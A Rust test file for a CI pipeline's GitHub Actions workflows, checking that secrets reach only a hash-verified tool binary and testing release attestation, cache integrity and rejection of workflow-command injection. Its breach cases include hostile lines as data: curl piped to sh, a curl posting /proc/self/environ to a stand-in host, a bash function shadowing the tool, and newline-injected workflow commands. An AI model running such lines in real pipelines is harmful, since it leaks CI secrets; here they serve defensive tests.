        Some("") => true,
        Some(to) => to
            .strip_prefix(">\"$RUNNER_TEMP/")
            .and_then(|name| name.strip_suffix('"'))
            .is_some_and(|name| {
                !name.is_empty()
                    && name
                        .bytes()
                        .all(|b| b.is_ascii_alphanumeric() || b"._-".contains(&b))
            }),
        None => false,
    };
    if !exec_alone {
        return Some(NO_EXEC);
    }
    let Some(args) = before.len().checked_sub(CHECK_THE_TOOL.len()) else {
        return Some(UNCHECKED);
    };
    if before[args..] != CHECK_THE_TOOL {
        return Some(UNCHECKED);
    }
    if !before[..args].iter().all(builds_args) {
        return Some(NO_EXEC);
    }
    None
}

/// Whether shell text holds anything that runs or redirects beyond plain words.
fn has_shell_operator(text: &str) -> bool {
    ["&", ";", "|", "<", ">", "$(", "`"]
        .iter()
        .any(|op| text.contains(op))
}

/// Where a workflow lets a secret reach code that is not the tool: a `uses:` step with a
/// secret (a composite action hands its env to every inner step: setup-packer,
/// install.sh), a secret's step that does not `exec` the tool or compiles, secrets at
/// workflow or job level, and a job holding a secret or a token that compiles or builds
/// the tool from source (`uses: ./` without the run's `binary`).
fn secret_boundary_violations(wf: &Yaml) -> Vec<String> {
    let secret = |node: &Yaml| text_of(node).contains("secrets.");
    let token = |node: &Yaml| secret(node) || text_of(node).contains("github.token");
    let mut found = Vec::new();
    if secret(&wf["env"]) {
        found.push("secrets in the workflow's env reach every step".to_string());
    }
    let Some(jobs) = wf["jobs"].as_hash() else {
        return found;
    };
    for (name, job) in jobs {
        let job_name = name.as_str().unwrap_or("?");
        if secret(&job["env"]) {
            found.push(format!(
                "{job_name}: secrets in the job's env reach every step"
            ));
        }
        let job_holds_token = token(job);
        for step in job["steps"].as_vec().into_iter().flatten() {
            let label = step_label(step);
            let script = step["run"].as_str().unwrap_or_default();
            if let Some(uses) = step["uses"].as_str() {
                if token(&step["env"]) || (secret(&step["with"]) && uses == "./") {
                    found.push(format!(
                        "{job_name}: {label} gets a secret: an action passes it on to every step inside (installers included)"
                    ));
                }
                if job_holds_token && uses == "./" && step["with"]["binary"].is_badvalue() {
                    found.push(format!(
                        "{job_name}: {label} builds the tool from source in a job that holds secrets: pass the run's `binary`"
                    ));
                }
            }
            if secret(&step["env"]) && step["uses"].is_badvalue() {
                if let Some(fault) = secret_step_fault(script) {
                    found.push(format!("{job_name}: {label} {fault}"));
                }
                let sha = [&step["env"]["TOOL_SHA256"], &job["env"]["TOOL_SHA256"]];
                if !sha.iter().any(|v| v.as_str() == Some(TOOL_SHA256)) {
                    found.push(format!(
                        "{job_name}: {label} holds secrets, but TOOL_SHA256 is not `{TOOL_SHA256}`"
                    ));
                }
            }
            if job_holds_token {
                if let Some(word) = COMPILES.iter().find(|w| script.contains(*w)) {
                    found.push(format!(
                        "{job_name}: {label} runs `{word}` in a job that holds secrets"
                    ));
                }
            }
        }
    }
    found
}

#[test]
fn no_secret_reaches_an_install_or_a_build_in_any_workflow() {
    for file in workflow_files() {
        let text = std::fs::read_to_string(&file).unwrap();
        let wf = YamlLoader::load_from_str(&text).unwrap().remove(0);
        assert_eq!(
            secret_boundary_violations(&wf),
            Vec::<String>::new(),
            "{}",
            file.display()
        );
    }
    // The pipeline compiles at most once, in job `tool`, which holds nothing; its
    // release binary comes from `tool-release`, which compiles nothing; the rest install
    // the run's binary, checked, and compile nothing either.
    let compiles = |job: &Yaml| {
        job["steps"].as_vec().into_iter().flatten().any(|step| {
            let script = step["run"].as_str().unwrap_or_default();
            (step["uses"].as_str() == Some("./") && step["with"]["binary"].is_badvalue())
                || COMPILES.iter().any(|w| script.contains(w))
        })
    };
    let wf = load(PIPELINE);
    let job = &wf["jobs"]["tool"];
    assert!(compiles(job));
    assert!(!text_of(job).contains("secrets.") && job["environment"].is_badvalue());
    assert!(
        !text_of(job).contains("github.token"),
        "tool: no token where it compiles"
    );
    let release = &wf["jobs"]["tool-release"];
    assert!(!compiles(release), "tool-release compiles");
    assert!(!text_of(release).contains("secrets.") && release["environment"].is_badvalue());
    for (name, job) in wf["jobs"].as_hash().unwrap() {
        let name = name.as_str().unwrap();
        if name == "tool" || name == "tool-release" {
            continue;
        }
        assert!(!compiles(job), "{name} compiles");
        let steps = job["steps"].as_vec().unwrap();
        assert!(
            !steps.iter().any(|s| s["uses"].as_str() == Some("./")),
            "{name}: `uses: ./` is the caller's checkout, not this repository's action"
        );
        let install = steps
            .iter()
            .position(|s| s["run"].as_str() == Some(INSTALL_THE_TOOL))
            .unwrap_or_else(|| panic!("{name}: does not install the run's binary, checked"));
        let download = steps
            .iter()
            .position(|s| {
                s["uses"]
                    .as_str()
                    .is_some_and(|u| u.starts_with("actions/download-artifact@"))
                    && s["with"]["name"].as_str() == Some("uworker-image")
            })
            .unwrap_or_else(|| panic!("{name}: does not download the tool"));
        assert!(download < install, "{name}");
        assert_eq!(
            job["env"]["TOOL_SHA256"].as_str(),
            Some(TOOL_SHA256),
            "{name}"
        );
        assert!(text_of(&job["needs"]).contains("tool"), "{name}");
    }
    // The callers only call.
    for rel in [".github/workflows/image.yml", ".github/workflows/sweep.yml"] {
        for (name, job) in load(rel)["jobs"].as_hash().unwrap() {
            assert_eq!(
                job["uses"].as_str(),
                Some("./.github/workflows/pipeline.yml"),
                "{rel}: {name:?}"
            );
        }
    }
}

/// The SHA-256 of `path`, by sha256sum.
fn sha256_hex(path: &std::path::Path) -> String {
    let mut cmd = Command::new("sha256sum");
    cmd.arg(path);
    let r = run(cmd);
    assert_eq!(r.code, 0, "{}", r.all());
    r.stdout.split_whitespace().next().unwrap().to_string()
}

/// `script` as a `run:` step runs it (`bash -e`), with only `vars` and a PATH that finds
/// `bin` first.
fn run_step(script: &str, bin: &std::path::Path, vars: &[(&str, &str)]) -> Run {
    let mut cmd = Command::new("bash");
    cmd.env_clear()
        .current_dir(bin.parent().unwrap())
        .env("PATH", format!("{}:/usr/bin:/bin", bin.display()))
        .envs(vars.iter().copied())
        .args(["-e", "-c", script]);
    run(cmd)
}

#[test]
fn each_secret_step_execs_only_the_binary_the_tool_job_built() {
    let tmp = tempfile::tempdir().unwrap();
    // The tool as the artifact brought it, and the same path swapped by an earlier step.
    let bin = tmp.path().join("bin");
    std::fs::create_dir_all(&bin).unwrap();
    let tool = bin.join("uworker-image");
    let log = tmp.path().join("ran");
    let stand_in = |who: &str| {
        std::fs::write(&tool, format!("#!/bin/sh\necho \"{who} $1\" >>\"$LOG\"\n")).unwrap();
        std::fs::set_permissions(&tool, std::os::unix::fs::PermissionsExt::from_mode(0o755))
            .unwrap();
        sha256_hex(&tool)
    };
    let built = stand_in("built");
    let mut checked = Vec::new();
    for rel in [PIPELINE] {
        let wf = load(rel);
        for (name, job) in wf["jobs"].as_hash().unwrap() {
            let name = name.as_str().unwrap();
            for step in job["steps"].as_vec().into_iter().flatten() {
                // Every step that holds a secret or the job's token, but the one that
                // downloads the release binary (it runs no tool; its own test checks it)
                // and release's (checked below: it runs the tool per record).
                let env = text_of(&step["env"]);
                if ["tool-release", "release"].contains(&name)
                    || !(env.contains("secrets.") || env.contains("github.token"))
                {
                    continue;
                }
                assert_eq!(
                    job["env"]["TOOL_SHA256"].as_str(),
                    Some(TOOL_SHA256),
                    "{name}"
                );
                let script = step["run"].as_str().unwrap();
                let pairs = [
                    ("TOOL_SHA256", built.as_str()),
                    ("LOG", log.to_str().unwrap()),
                    ("RUNNER_TEMP", tmp.path().to_str().unwrap()),
                ];
                let _ = std::fs::remove_file(&log);
                stand_in("built");
                let r = run_step(script, &bin, &pairs);
                assert_eq!(r.code, 0, "{rel}: {name}: {}", r.all());
                let ran = std::fs::read_to_string(&log).unwrap_or_default();
                assert!(ran.starts_with("built "), "{rel}: {name}: {ran:?}");

                // Swapped after the install step checked it: refused, and never run.
                let _ = std::fs::remove_file(&log);
                stand_in("swapped");
                let r = run_step(script, &bin, &pairs);
                assert_ne!(r.code, 0, "{rel}: {name}: {}", r.all());
                assert!(r.all().contains("FAILED"), "{rel}: {name}: {}", r.all());
                assert!(!log.exists(), "{rel}: {name}: the swapped binary ran");

                // And a function of its name exported by an earlier step, a good copy
                // where the name is a relative path: `command -v` names the function,
                // the copy would pass the hash, and `exec` would run PATH's swapped one.
                std::fs::write(tmp.path().join("uworker-image"), "").unwrap();
                stand_in("built");
                std::fs::copy(&tool, tmp.path().join("uworker-image")).unwrap();
                stand_in("swapped");
                let shadowed = [&pairs[..], &[("BASH_FUNC_uworker-image%%", "() { :; }")]].concat();
                let r = run_step(script, &bin, &shadowed);
                assert_ne!(r.code, 0, "{rel}: {name}: {}", r.all());
                assert!(!log.exists(), "{rel}: {name}: the swapped binary ran");
                std::fs::remove_file(tmp.path().join("uworker-image")).unwrap();
                checked.push(format!("{rel}: {name}"));
            }
        }
    }
    assert_eq!(checked.len(), 7, "{checked:?}");
    assert!(
        checked.iter().any(|c| c.ends_with(": pr-check")),
        "{checked:?}"
    );

    // The release job holds a write token: its binary is checked before it runs, too.
    let wf = load(PIPELINE);
    let release = wf["jobs"]["release"]["steps"]
        .as_vec()
        .unwrap()
        .iter()
        .find(|s| text_of(&s["env"]).contains("github.token"))
        .expect("the release step");
    assert_eq!(
        wf["jobs"]["release"]["env"]["TOOL_SHA256"].as_str(),
        Some(TOOL_SHA256)
    );
    let script = release["run"].as_str().unwrap();
    let lines: Vec<&str> = script.lines().map(str::trim).collect();
    assert_eq!(lines[..3], CHECK_THE_TOOL, "{script}");
    assert!(
        script.contains("\"$tool\" report") && !script.contains("uworker-image report"),
        "{script}"
    );
}

/// The pipeline's install step, run for real: the artifact with job `tool`'s SHA-256 is
/// put on PATH; another one (or no SHA-256) is refused and never reaches PATH.
#[test]
fn the_install_step_puts_only_the_tool_jobs_binary_on_path() {
    let tmp = tempfile::tempdir().unwrap();
    let artifact = tmp.path().join("tool/uworker-image");
    std::fs::create_dir_all(artifact.parent().unwrap()).unwrap();
    std::fs::write(&artifact, "#!/bin/sh\necho built\n").unwrap();
    let built = sha256_hex(&artifact);
    let github_path = tmp.path().join("github_path");
    let install = |sha: &str| {
        let _ = std::fs::remove_dir_all(tmp.path().join("bin"));
        std::fs::write(&github_path, "").unwrap();
        run_step(
            INSTALL_THE_TOOL,
            tmp.path(),
            &[
                ("TOOL_SHA256", sha),
                ("RUNNER_TEMP", tmp.path().to_str().unwrap()),
                ("GITHUB_PATH", github_path.to_str().unwrap()),
            ],
        )
    };
    let r = install(&built);
    assert_eq!(r.code, 0, "{}", r.all());
    let installed = tmp.path().join("bin/uworker-image");
    assert_eq!(sha256_hex(&installed), built);
    let mode =
        std::os::unix::fs::PermissionsExt::mode(&installed.metadata().unwrap().permissions());
    assert_eq!(mode & 0o777, 0o755);
    assert_eq!(
        std::fs::read_to_string(&github_path).unwrap(),
        format!("{}\n", tmp.path().join("bin").display())
    );
    for sha in ["0".repeat(64), String::new()] {
        let r = install(&sha);
        assert_ne!(r.code, 0, "{sha:?}: {}", r.all());
        assert_eq!(
            std::fs::read_to_string(&github_path).unwrap(),
            "",
            "{sha:?}"
        );
    }
}

// ---- the tool job: compiled once per source -----------------------------------------

/// The pipeline's job `tool`: its steps, by id or `uses:` prefix.
fn tool_step<'a>(steps: &'a [Yaml], what: &str) -> &'a Yaml {
    steps
        .iter()
        .find(|s| {
            s["id"].as_str() == Some(what)
                || s["uses"].as_str().is_some_and(|u| u.starts_with(what))
        })
        .unwrap_or_else(|| panic!("pipeline.yml: job tool: no step `{what}`"))
}

/// What gates each step of job `tool` (compile) and of `tool-release`.
const FROM_CHECKOUT: &str = "inputs.tool-version == 'checkout'";
const FROM_RELEASE: &str = "inputs.tool-version != 'checkout'";

#[test]
fn a_release_tag_installs_the_release_binary_checked_and_compiles_nothing() {
    let wf = load(PIPELINE);
    let job = &wf["jobs"]["tool-release"];
    // It always runs (a skipped job would skip the jobs after it); its steps do the work
    // for a release tag only.
    assert!(job["if"].is_badvalue() && job["needs"].is_badvalue());
    assert_eq!(keys(&job["permissions"]), set(&["contents"]));
    assert_eq!(job["permissions"]["contents"].as_str(), Some("read"));
    let steps = job["steps"].as_vec().unwrap();
    for step in steps {
        assert_eq!(
            step["if"].as_str(),
            Some(FROM_RELEASE),
            "{}",
            step_label(step)
        );
    }
    let fetch = tool_step(steps, "fetch");
    // The release of this workflow's own repository, by default its tag.
    assert_eq!(
        fetch["env"]["REPOSITORY"].as_str(),
        Some("${{ job.workflow_repository }}")
    );
    assert_eq!(
        fetch["env"]["WORKFLOW_REF"].as_str(),
        Some("${{ job.workflow_ref }}")
    );
    let script = fetch["run"].as_str().unwrap();
    for part in [
        "asset=uworker-image-x86_64-unknown-linux-musl.tar.gz",
        r#"if [ "$(cat "$asset.sha256")" != "$(sha256sum "$asset")" ]; then"#,
        r#"gh attestation verify "$asset" --repo "$REPOSITORY" \"#,
        r#"--signer-workflow "$REPOSITORY/.github/workflows/release.yml" \"#,
        r#"--source-ref "refs/tags/$tag" --deny-self-hosted-runners"#,
    ] {
        assert!(script.contains(part), "tool-release: no `{part}`");
    }
    // The same asset the action installs, and the check docs/github-actions.md gives.
    let install = std::fs::read_to_string(repo().join("action/install.sh")).unwrap();
    assert!(install.contains("asset=uworker-image-x86_64-unknown-linux-musl.tar.gz"));
    let upload = tool_step(steps, "actions/upload-artifact@");
    assert_eq!(upload["with"]["name"].as_str(), Some("uworker-image"));
    // Job `tool` hands its SHA-256 on when it compiled nothing.
    assert_eq!(
        wf["jobs"]["tool"]["outputs"]["sha256"].as_str(),
        Some("${{ steps.pack.outputs.sha256 || needs.tool-release.outputs.sha256 }}")
    );
    assert_eq!(wf["jobs"]["tool"]["needs"].as_str(), Some("tool-release"));
    assert!(wf["jobs"]["tool"]["if"].is_badvalue());
}

/// tool-release's script, run for real against a release served from a directory
/// (curl's file:// URLs; gh a stand-in that records its arguments).
#[test]
fn the_release_binary_is_refused_when_its_checksum_does_not_name_it_alone() {
    let wf = load(PIPELINE);
    let script = tool_step(
        wf["jobs"]["tool-release"]["steps"].as_vec().unwrap(),
        "fetch",
    )["run"]
        .as_str()
        .unwrap()
        .to_string();
    let tmp = tempfile::tempdir().unwrap();
    let server = tmp.path().join("server");
    let download = server.join("OWNER/uworker-image/releases/download/v1.2.0");
    std::fs::create_dir_all(&download).unwrap();
    let built = tmp.path().join("built");
    std::fs::create_dir_all(&built).unwrap();
    std::fs::write(
        built.join("uworker-image"),
        "#!/bin/sh\necho uworker-image 1.2.0\n",
    )
    .unwrap();
    std::fs::set_permissions(
        built.join("uworker-image"),
        std::os::unix::fs::PermissionsExt::from_mode(0o755),
    )
    .unwrap();
    let r = run({
        let mut cmd = Command::new(repo().join("scripts/package-release.sh"));
        cmd.args([
            built.join("uworker-image").to_str().unwrap(),
            "x86_64-unknown-linux-musl",
            download.to_str().unwrap(),
        ]);
        cmd
    });
    assert_eq!(r.code, 0, "{}", r.all());
    let bin = tmp.path().join("bin");
    std::fs::create_dir_all(&bin).unwrap();
    std::fs::write(
        bin.join("gh"),
        "#!/bin/sh\necho \"$@\" >>\"$RUNNER_TEMP/gh-args\"\n[ ! -e \"$(dirname \"$0\")/gh-fails\" ]\n",
    )
    .unwrap();
    std::fs::set_permissions(
        bin.join("gh"),
        std::os::unix::fs::PermissionsExt::from_mode(0o755),
    )
    .unwrap();
    let sums = download.join("uworker-image-x86_64-unknown-linux-musl.tar.gz.sha256");
    let good_sums = std::fs::read_to_string(&sums).unwrap();
    let fetch = |version: &str, workflow_ref: &str| {
        let runner = tempfile::tempdir().unwrap();
        let output = runner.path().join("output");
        std::fs::write(&output, "").unwrap();
        let r = run_step(
            &script,
            &bin,
            &[
                ("GH_TOKEN", "t"),
                ("TOOL_VERSION", version),
                ("WORKFLOW_REF", workflow_ref),
                ("REPOSITORY", "OWNER/uworker-image"),
                ("GITHUB_SERVER_URL", &format!("file://{}", server.display())),
                ("RUNNER_TEMP", runner.path().to_str().unwrap()),
                ("GITHUB_OUTPUT", output.to_str().unwrap()),
            ],
        );
        let gh = std::fs::read_to_string(runner.path().join("gh-args")).unwrap_or_default();
        (r, std::fs::read_to_string(&output).unwrap(), gh)
    };
    let at_tag = "OWNER/uworker-image/.github/workflows/pipeline.yml@refs/tags/v1.2.0";
    // The tag the workflow is called at, or the one asked for: checked, attested, output.
    for (version, workflow_ref) in [
        ("", at_tag),
        ("v1.2.0", "x/y/.github/workflows/p.yml@refs/heads/main"),
    ] {
        let (r, output, gh) = fetch(version, workflow_ref);
        assert_eq!(r.code, 0, "{version:?}: {}", r.all());
        assert_eq!(
            output,
            format!("sha256={}\n", sha256_hex(&built.join("uworker-image")))
        );
        assert_eq!(
            gh,
            "attestation verify uworker-image-x86_64-unknown-linux-musl.tar.gz --repo OWNER/uworker-image --signer-workflow OWNER/uworker-image/.github/workflows/release.yml --source-ref refs/tags/v1.2.0 --deny-self-hosted-runners\n"
        );
    }
    // The attestation does not verify (another ref, another workflow): the step fails,
    // nothing is unpacked or run, nothing is output.
    std::fs::write(bin.join("gh-fails"), "").unwrap();
    let (r, output, gh) = fetch("v1.2.0", at_tag);
    std::fs::remove_file(bin.join("gh-fails")).unwrap();
    assert_ne!(r.code, 0, "{}", r.all());
    assert!(!r.all().contains("uworker-image 1.2.0"), "{}", r.all());
    assert_eq!(output, "");
    assert!(gh.contains("--source-ref refs/tags/v1.2.0"), "{gh}");
    // Called at a branch with no tool-version; a version that is no tag.
    for (version, workflow_ref, message) in [
        (
            "",
            "OWNER/uworker-image/.github/workflows/pipeline.yml@refs/heads/main",
            "not at a release tag: set input tool-version",
        ),
        ("../v1", at_tag, "is not a release tag"),
        // A newline in the ref or the input: no second workflow command.
        (
            "",
            "O/u/.github/workflows/p.yml@refs/heads/x\n::warning::injected%0A",
            "not at a release tag: set input tool-version",
        ),
        ("v1\n::warning::injected", at_tag, "is not a release tag"),
    ] {
        let (r, output, _) = fetch(version, workflow_ref);
        assert_ne!(r.code, 0, "{version:?}");
        assert!(r.all().contains(message), "{}", r.all());
        assert_eq!(output, "");
        let all = r.all();
        let commands: Vec<&str> = all.lines().filter(|l| l.starts_with("::")).collect();
        assert_eq!(commands.len(), 1, "{}", r.all());
        assert!(commands[0].starts_with("::error::"), "{}", r.all());
        assert!(!r.all().contains("injected%0A"), "{}", r.all());
    }
    // A .sha256 that does not match, names another file, or has a second line: refused
    // before gh, never output.
    let (hex, name) = good_sums.split_once("  ").unwrap();
    for bad in [
        format!("{}  {name}", "0".repeat(64)),
        format!("{hex}  other.tar.gz\n"),
        format!("{good_sums}{hex}  other.tar.gz\n"),
    ] {
        std::fs::write(&sums, &bad).unwrap();
        let (r, output, gh) = fetch("v1.2.0", at_tag);
        assert_ne!(r.code, 0, "{bad:?}: {}", r.all());
        assert!(r.all().contains("refusing it"), "{}", r.all());
        assert_eq!((output.as_str(), gh.as_str()), ("", ""), "{bad:?}");
    }
    std::fs::write(&sums, &good_sums).unwrap();
}

#[test]
fn the_tool_is_reused_for_the_same_source_and_no_pull_request_writes_its_cache() {
    let wf = load(PIPELINE);
    let job = &wf["jobs"]["tool"];
    assert_eq!(keys(&job["permissions"]), set(&["contents"]));
    assert_eq!(job["permissions"]["contents"].as_str(), Some("read"));
    let steps = job["steps"].as_vec().unwrap();
    // tool-version `checkout` alone compiles: every step is for it.
    for step in steps {
        assert!(
            step["if"].as_str().is_some_and(
                |c| c == FROM_CHECKOUT || c.starts_with(&format!("{FROM_CHECKOUT} && "))
            ),
            "{}: {:?}",
            step_label(step),
            step["if"]
        );
    }
    let steps = job["steps"].as_vec().unwrap();
    let position = |what: &str| {
        let step = tool_step(steps, what);
        steps.iter().position(|s| s == step).unwrap()
    };

    // Keyed by the source the binary is built from, and by the class of run that writes it.
    let source = tool_step(steps, "source");
    assert_eq!(
        source["env"]["SOURCE_HASH"].as_str(),
        Some("${{ hashFiles('Cargo.lock', 'Cargo.toml', 'src/**') }}")
    );
    assert!(
        source["run"]
            .as_str()
            .unwrap()
            .contains("-default-branch-$SOURCE_HASH-sha256-\" >>\"$GITHUB_OUTPUT\""),
        "{:?}",
        source["run"]
    );
    let key = "${{ steps.source.outputs.key }}";

    // actions/cache would save in its post step on every event: restore and save apart.
    assert!(
        !steps.iter().any(|s| s["uses"]
            .as_str()
            .is_some_and(|u| u.starts_with("actions/cache@"))),
        "job tool uses actions/cache, which saves on pull requests too"
    );
    let restore = tool_step(steps, "actions/cache/restore@");
    let save = tool_step(steps, "actions/cache/save@");
    assert_eq!(restore["with"]["key"].as_str(), Some(key));
    assert_eq!(restore["with"]["restore-keys"].as_str(), Some(key));
    assert_eq!(restore["with"]["path"], save["with"]["path"]);
    // The binary's SHA-256 is in the key it is saved under.
    assert_eq!(
        save["with"]["key"].as_str(),
        Some("${{ steps.source.outputs.key }}${{ steps.pack.outputs.sha256 }}")
    );
    // Saved only by a run of the default branch that compiled: never by a pull request.
    let condition = save["if"].as_str().unwrap_or_default();
    for part in [
        "steps.cached.outputs.hit != 'true'",
        "github.event_name != 'pull_request'",
        "github.ref == 'refs/heads/main'",
    ] {
        assert!(
            condition.contains(part),
            "save: `{condition}` lacks `{part}`"
        );
    }
    assert!(!condition.contains("||"), "save: `{condition}`");
    assert_eq!(
        load(".github/workflows/image.yml")["on"]["push"]["branches"][0].as_str(),
        Some("main"),
        "the default branch"
    );

    // Compiled only when nothing fit; uploaded either way, after the check.
    assert_eq!(
        tool_step(steps, "install")["if"].as_str(),
        Some("inputs.tool-version == 'checkout' && steps.cached.outputs.hit != 'true'")
    );
    let order = [
        position("actions/checkout@"),
        position("source"),
        position("actions/cache/restore@"),
        position("cached"),
        position("install"),
        position("pack"),
        position("actions/upload-artifact@"),
        position("actions/cache/save@"),
    ];
    assert!(order.windows(2).all(|w| w[0] < w[1]), "{order:?}");
    let cached = tool_step(steps, "cached");
    assert_eq!(
        cached["env"]["MATCHED"].as_str(),
        Some("${{ steps.restore.outputs.cache-matched-key }}")
    );
    assert_eq!(cached["env"]["PREFIX"].as_str(), Some(key));
}

/// Job `tool`'s check of a restored binary, run for real: `hit=true` only when the binary
/// has the SHA-256 its cache key records.
#[test]
fn a_restored_binary_is_used_only_with_the_sha256_in_its_key() {
    let wf = load(PIPELINE);
    let script = tool_step(wf["jobs"]["tool"]["steps"].as_vec().unwrap(), "cached")["run"]
        .as_str()
        .unwrap()
        .to_string();
    let prefix = "uworker-image-tool-Linux-X64-default-branch-abc123-sha256-";
    let check = |matched: &str, binary: Option<&str>| -> (Run, String, bool) {
        let tmp = tempfile::tempdir().unwrap();
        let dir = tmp.path().join("tool");
        if let Some(content) = binary {
            std::fs::create_dir_all(&dir).unwrap();
            std::fs::write(dir.join("uworker-image"), content).unwrap();
        }
        let output = tmp.path().join("output");
        std::fs::write(&output, "").unwrap();
        let r = run_step(
            &script,
            tmp.path(),
            &[
                ("MATCHED", matched),
                ("PREFIX", prefix),
                ("RUNNER_TEMP", tmp.path().to_str().unwrap()),
                ("GITHUB_OUTPUT", output.to_str().unwrap()),
            ],
        );
        assert_eq!(r.code, 0, "{matched}: {}", r.all());
        (r, std::fs::read_to_string(&output).unwrap(), dir.exists())
    };
    let tmp = tempfile::tempdir().unwrap();
    let built = tmp.path().join("uworker-image");
    std::fs::write(&built, "the binary built from this source").unwrap();
    let sha = sha256_hex(&built);

    // Nothing restored: compile.
    let (_, output, _) = check("", None);
    assert_eq!(output, "");
    // The binary the key names: used.
    let (_, output, kept) = check(
        &format!("{prefix}{sha}"),
        Some("the binary built from this source"),
    );
    assert_eq!(output, "hit=true\n");
    assert!(kept);
    // Another binary under that key, a key with no hash, a key of another prefix: thrown
    // away, with a warning, and compiled.
    for (matched, content) in [
        (format!("{prefix}{sha}"), "a binary swapped in the cache"),
        (prefix.to_string(), "the binary built from this source"),
        (format!("other-{sha}"), "the binary built from this source"),
    ] {
        let (r, output, kept) = check(&matched, Some(content));
        assert_eq!(output, "", "{matched}");
        assert!(
            !kept,
            "{matched}: the restored binary is left for the upload"
        );
        assert!(r.stdout.contains("::warning::"), "{matched}: {}", r.all());
    }
    // A key with no hash and nothing restored under it (an empty hash matches an empty
    // sha256sum output, as it did without pipefail): compiled, never a hit.
    let (r, output, _) = check(prefix, None);
    assert_eq!(output, "", "{}", r.all());
}

/// pipeline.yml with `from` replaced by `to` once (the text must be there).
fn pipeline_with(from: &str, to: &str) -> Yaml {
    let text = std::fs::read_to_string(repo().join(PIPELINE)).unwrap();
    assert!(text.contains(from), "the workflow has no `{from}`");
    YamlLoader::load_from_str(&text.replacen(from, to, 1))
        .unwrap()
        .remove(0)
}

#[test]
fn each_secret_boundary_check_catches_its_breach() {
    let install_in_build = "      - *install-tool\n      # The release is made";
    let exec_build = "          exec \"$tool\" \"${args[@]}\"\n        env: *cloud-and-worker-secrets\n      - if: always()";
    let check_build = &format!("          tool=$(command -v uworker-image)\n          [[ $tool == /* ]]\n          /usr/bin/sha256sum --check --strict --quiet <<<\"$TOOL_SHA256  $tool\"\n{exec_build}");
    // sha256sum as PATH finds it; something run before the check.
    let unsure_check = &format!("          tool=$(command -v uworker-image)\n          [[ $tool == /* ]]\n          sha256sum --check --strict --quiet <<<\"$TOOL_SHA256  $tool\"\n{exec_build}");
    // A name `command -v` gives that is no path (a function of that name): not refused.
    let any_name_check = &format!("          tool=$(command -v uworker-image)\n          /usr/bin/sha256sum --check --strict --quiet <<<\"$TOOL_SHA256  $tool\"\n{exec_build}");
    let args_build = "          args=(build --target \"$BUILD_TARGET\" --out \"$RUNNER_TEMP/record.json\" --no-report)\n";
    let run_before_check =
        &format!("          curl -fsSL https://example.invalid/x.sh | sh\n{check_build}");
    let breaches = [
        // The secrets on an action that installs (`uses: ./`: setup-packer and install.sh).
        (
            install_in_build,
            "      - *install-tool\n      - uses: ./\n        with:\n          binary: ${{ runner.temp }}/tool/uworker-image\n        env: *cloud-and-worker-secrets\n      # The release is made",
            "build: `uses: ./` gets a secret",
        ),
        // The secrets on the install step every job shares, or on the shared setup-packer.
        (
            "      - &install-tool\n        name: Install the run's uworker-image, checked\n",
            "      - &install-tool\n        name: Install the run's uworker-image, checked\n        env:\n          OS_PASSWORD: ${{ secrets.OS_PASSWORD }}\n",
            "pr-targets: `Install the run's uworker-image, checked` (run: install -D -m 0755 \"$RUNNER_TEMP/tool/uworker-image\" \"$RUNNER_TEMP/bin/uworker-image\") holds secrets but does not only `exec`",
        ),
        (
            "      - &setup-packer\n        if: inputs.packer-version != ''\n",
            "      - &setup-packer\n        if: inputs.packer-version != ''\n        env:\n          OS_PASSWORD: ${{ secrets.OS_PASSWORD }}\n",
            "plan: `uses: hashicorp/setup-packer@c3d53c525d422944e50ee27b840746d6522b08de` gets a secret",
        ),
        // The job that fetches the release holds a token: it must not compile.
        (
            "          mkdir tool\n",
            "          cargo build --release --locked\n          mkdir tool\n",
            "tool-release: `Download the release binary and check it` (run: tag=$TOOL_VERSION) runs `cargo build` in a job that holds secrets",
        ),
        // Secrets for the whole workflow.
        (
            "  UWORKER_IMAGE_DIR: ${{ inputs.dir }}\n",
            "  UWORKER_IMAGE_DIR: ${{ inputs.dir }}\n  OS_PASSWORD: ${{ secrets.OS_PASSWORD }}\n",
            "secrets in the workflow's env reach every step",
        ),
        // A token in the env of another action.
        (
            "      - if: always()\n        uses: actions/upload-artifact",
            "      - if: always()\n        env:\n          GH_TOKEN: ${{ github.token }}\n        uses: actions/upload-artifact",
            "build: `uses: actions/upload-artifact@",
        ),
        // setup-packer beside the tool, with a secret.
        (
            "      # Never the image of a target's current fingerprint",
            "      - uses: hashicorp/setup-packer@c3d53c525d422944e50ee27b840746d6522b08de # v3.2.0\n        env:\n          OS_PASSWORD: ${{ secrets.OS_PASSWORD }}\n      # Never the image of a target's current fingerprint",
            "prune: `uses: hashicorp/setup-packer@c3d53c525d422944e50ee27b840746d6522b08de` gets a secret",
        ),
        // A job with secrets that compiles, or runs the installer.
        (
            "      # Every target whose image is missing",
            "      - run: cargo build --release --locked\n      # Every target whose image is missing",
            "plan: `run: cargo build --release --locked` runs `cargo build` in a job that holds secrets",
        ),
        (
            "      # Every target whose image is missing",
            "      - run: ./action/install.sh\n      # Every target whose image is missing",
            "plan: `run: ./action/install.sh` runs `install.sh` in a job that holds secrets",
        ),
        // `uses: ./` without the run's binary: install.sh compiles (cargo install).
        (
            "      # Never the image of a target's current fingerprint",
            "      - uses: ./\n      # Never the image of a target's current fingerprint",
            "prune: `uses: ./` builds the tool from source in a job that holds secrets",
        ),
        // The secrets' step runs the tool without exec: the runner's cancel would stop
        // at its shell.
        (
            exec_build,
            "          uworker-image \"${args[@]}\"\n        env: *cloud-and-worker-secrets\n      - if: always()",
            "holds secrets but does not only `exec` the checked uworker-image",
        ),
        // Something else runs with the secrets before the tool.
        (
            check_build,
            run_before_check,
            "holds secrets but does not only `exec` the checked uworker-image",
        ),
        // The binary on PATH exec'd unchecked, or checked by whatever PATH finds first.
        (
            check_build,
            exec_build,
            "holds secrets but does not hash uworker-image again before it execs it",
        ),
        (
            check_build,
            unsure_check,
            "holds secrets but does not hash uworker-image again before it execs it",
        ),
        (
            check_build,
            any_name_check,
            "holds secrets but does not hash uworker-image again before it execs it",
        ),
        // A command chained into a line that builds the arguments, or after the exec
        // (in the background): each runs with the secrets.
        (
            args_build,
            "          args=(build) && curl -sd @/proc/self/environ https://example.invalid && args+=(x)\n",
            "holds secrets but does not only `exec` the checked uworker-image",
        ),
        (
            args_build,
            "          args=(build); env >/tmp/x; args+=(x)\n",
            "holds secrets but does not only `exec` the checked uworker-image",
        ),
        (
            exec_build,
            "          exec \"$tool\" \"${args[@]}\" & curl https://example.invalid/$(id)\n        env: *cloud-and-worker-secrets\n      - if: always()",
            "holds secrets but does not only `exec` the checked uworker-image",
        ),
        (
